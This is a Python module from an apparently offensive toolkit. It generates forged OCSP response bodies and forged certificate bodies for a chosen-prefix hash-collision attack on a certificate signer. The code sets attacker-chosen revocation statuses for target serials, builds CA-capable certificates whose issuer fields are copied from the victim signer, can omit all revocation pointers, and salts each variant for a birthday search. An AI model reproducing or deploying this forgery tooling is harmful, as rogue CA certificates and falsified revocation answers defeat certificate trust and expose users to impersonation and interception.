"""Generators for the sources the attacker wants signed.

Two families: fake OCSP response bodies (a chosen status for a chosen
serial, with chosen lifetimes) and fake certificate bodies (attacker key,
optional CA bit, issuer fields matched to the victim signer). Each family
embeds a salt channel so index i maps to a distinct, schema-valid body;
everything outside the salt stays fixed.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from enum import Enum

from .collision import SplicedTemplate, index_block
from .der import GeneralizedTimeValue
from .messages import (
    AlgorithmIdentifier,
    CertStatus,
    Extension,
    Name,
    ResponderId,
    SingleResponse,
    TbsCertificate,
    TbsResponseData,
    authority_key_identifier_extension,
    basic_constraints_extension,
    cert_id_for_issuer,
    encode_tbs_certificate,
    encode_tbs_response_data,
    nonce_extension,
    subject_key_identifier_extension,
)
from .pki import OID_SALT_EXTENSION, HashSpec, SignerIdentity

SALT_WIDTH = 8


class SaltChannel(str, Enum):
    """Where a forged certificate hides its search salt."""

    UNIQUE_IDENTIFIER = "unique_identifier"   # subject RDN, OID 2.5.4.45
    SUBJECT_KEY_ID = "subject_key_id"         # subjectKeyIdentifier extension
    CUSTOM_EXTENSION = "custom_extension"     # non-critical lab-arc extension


@dataclass(frozen=True)
class FakeResponseSpec:
    """The falsified status record the attacker wants the responder to sign."""

    target_serial: int
    desired_status: CertStatus
    this_update: GeneralizedTimeValue
    next_update: GeneralizedTimeValue
    produced_at: GeneralizedTimeValue
    responder_id: ResponderId
    cert_id_hash: HashSpec
    issuer: TbsCertificate
    salt_prefix: bytes = b""

    def body(self, salt: bytes) -> bytes:
        tbs = TbsResponseData(
            responder_id=self.responder_id,
            produced_at=self.produced_at,
            responses=(
                SingleResponse(
                    cert_id=cert_id_for_issuer(self.cert_id_hash, self.issuer, self.target_serial),
                    status=self.desired_status,
                    this_update=self.this_update,
                    next_update=self.next_update,
                ),
            ),
            extensions=(nonce_extension(self.salt_prefix + salt),),
        )
        return encode_tbs_response_data(tbs)


def fake_response_source(spec: FakeResponseSpec, index: int) -> bytes:
    """tbsResponseData realizing ``spec`` with the index-derived salt."""
    return spec.body(index_block(index, SALT_WIDTH))


@dataclass(frozen=True)
class FakeCertificateSpec:
    """The forged certificate body: attacker-chosen content, issuer-matched fields."""

    subject: Name
    ca: bool
    issuer: Name
    authority_key_id: bytes
    not_before: GeneralizedTimeValue
    not_after: GeneralizedTimeValue
    public_key: bytes
    signature_algorithm: AlgorithmIdentifier
    spki_algorithm: AlgorithmIdentifier
    serial: int = 0x7FF0
    salt_channel: SaltChannel = SaltChannel.CUSTOM_EXTENSION
    salt_prefix: bytes = b""
    # Pointers a CA could use to revoke the forgery (CRL DP, AIA). Left
    # empty, the forged certificate carries no revocation route at all.
    revocation_pointers: tuple[Extension, ...] = ()

    @classmethod
    def for_signer(
        cls,
        signer: SignerIdentity,
        subject: Name,
        public_key: bytes,
        *,
        ca: bool = True,
        not_before: GeneralizedTimeValue | None = None,
        not_after: GeneralizedTimeValue | None = None,
        salt_channel: SaltChannel = SaltChannel.CUSTOM_EXTENSION,
        salt_prefix: bytes = b"",
        serial: int = 0x7FF0,
    ) -> "FakeCertificateSpec":
        """Issuer RDN and authority key identifier copied bit-identically
        from the signer's certificate, as a verifier would demand."""
        cert = signer.certificate
        return cls(
            subject=subject,
            ca=ca,
            issuer=cert.subject,
            authority_key_id=hashlib.sha1(cert.public_key).digest(),
            not_before=not_before if not_before is not None else cert.not_before,
            not_after=not_after if not_after is not None else cert.not_after,
            public_key=public_key,
            signature_algorithm=AlgorithmIdentifier.for_signature(signer.hash_spec),
            spki_algorithm=cert.spki_algorithm,
            salt_channel=salt_channel,
            salt_prefix=salt_prefix,
            serial=serial,
        )

    def body(self, salt: bytes) -> bytes:
        salted = self.salt_prefix + salt
        subject = self.subject
        extensions: list[Extension] = [
            basic_constraints_extension(ca=self.ca),
            authority_key_identifier_extension(self.authority_key_id),
        ]
        if self.salt_channel is SaltChannel.UNIQUE_IDENTIFIER:
            subject = subject + (("2.5.4.45", salted),)
            extensions.append(subject_key_identifier_extension(hashlib.sha1(self.public_key).digest()))
        elif self.salt_channel is SaltChannel.SUBJECT_KEY_ID:
            extensions.append(subject_key_identifier_extension(salted))
        else:
            extensions.append(subject_key_identifier_extension(hashlib.sha1(self.public_key).digest()))
            extensions.append(Extension(OID_SALT_EXTENSION, salted))
        extensions.extend(self.revocation_pointers)
        tbs = TbsCertificate(
            serial_number=self.serial,
            signature_algorithm=self.signature_algorithm,
            issuer=self.issuer,
            not_before=self.not_before,
            not_after=self.not_after,
            subject=subject,
            spki_algorithm=self.spki_algorithm,
            public_key=self.public_key,
            extensions=tuple(extensions),
        )
        return encode_tbs_certificate(tbs)


def fake_certificate_source(spec: FakeCertificateSpec, index: int) -> bytes:
    """TBSCertificate bytes realizing ``spec`` with the index-derived salt."""
    return spec.body(index_block(index, SALT_WIDTH))


class _TemplateSource:
    """Shared indexed-source plumbing over a salt-windowed template."""

    kind: str

    def __init__(self, build_body, label: str):
        self.label = label
        self._template = SplicedTemplate.from_builder(build_body, SALT_WIDTH)

    def tbs_at(self, index: int) -> bytes:
        return self._template.fill(index_block(index, SALT_WIDTH))


class FakeResponseSource(_TemplateSource):
    """Index -> fake tbsResponseData bytes, for the birthday search."""

    kind = "ocsp_response"

    def __init__(self, spec: FakeResponseSpec):
        self.spec = spec
        super().__init__(
            spec.body,
            label=(
                f"tbsfake_response(serial={spec.target_serial}, "
                f"status={spec.desired_status.state})"
            ),
        )

    def to_record(self) -> dict[str, str]:
        from .messages import encode_tbs_certificate as _enc

        rid = self.spec.responder_id
        assert rid.key_hash is not None, "only byKey responder IDs serialize"
        return {
            "type": "fake_response",
            "label": self.label,
            "kind": self.kind,
            "target_serial": str(self.spec.target_serial),
            "status": self.spec.desired_status.state,
            "this_update": self.spec.this_update.render(),
            "next_update": self.spec.next_update.render(),
            "produced_at": self.spec.produced_at.render(),
            "responder_key_hash": rid.key_hash.hex(),
            "cert_id_hash": self.spec.cert_id_hash.label,
            "issuer": _enc(self.spec.issuer).hex(),
            "salt_prefix": self.spec.salt_prefix.hex(),
        }

    @classmethod
    def from_record(cls, record: dict[str, str]) -> "FakeResponseSource":
        from .messages import decode_tbs_certificate

        status = record["status"]
        desired = (
            CertStatus.good()
            if status == "good"
            else CertStatus.unknown()
            if status == "unknown"
            else CertStatus.revoked(GeneralizedTimeValue.parse(record["this_update"]))
        )
        spec = FakeResponseSpec(
            target_serial=int(record["target_serial"]),
            desired_status=desired,
            this_update=GeneralizedTimeValue.parse(record["this_update"]),
            next_update=GeneralizedTimeValue.parse(record["next_update"]),
            produced_at=GeneralizedTimeValue.parse(record["produced_at"]),
            responder_id=ResponderId(key_hash=bytes.fromhex(record["responder_key_hash"])),
            cert_id_hash=HashSpec.parse(record["cert_id_hash"]),
            issuer=decode_tbs_certificate(bytes.fromhex(record["issuer"])),
            salt_prefix=bytes.fromhex(record["salt_prefix"]),
        )
        return cls(spec)


class FakeCertificateSource(_TemplateSource):
    """Index -> fake TBSCertificate bytes, for the birthday search."""

    kind = "certificate"

    def __init__(self, spec: FakeCertificateSpec):
        self.spec = spec
        super().__init__(
            spec.body,
            label=f"tbsfake_certificate(subject={spec.subject!r}, ca={spec.ca})",
        )
